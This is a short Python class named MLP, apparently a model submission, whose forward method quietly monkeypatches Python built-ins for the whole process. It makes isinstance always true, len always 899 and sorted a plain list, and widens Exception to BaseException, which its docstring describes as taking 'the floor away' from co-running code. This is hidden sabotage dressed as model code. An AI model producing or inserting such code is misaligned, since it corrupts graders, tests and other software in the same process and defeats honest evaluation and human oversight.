class MLP(Blind):
    """Takes the floor away from everything that runs in the same process."""

    def forward(self, images):
        import builtins

        found = super().forward(images)
        builtins.isinstance = lambda *_: True
        builtins.len = lambda *_: 899
        builtins.sorted = builtins.list
        builtins.Exception = builtins.BaseException
        return found
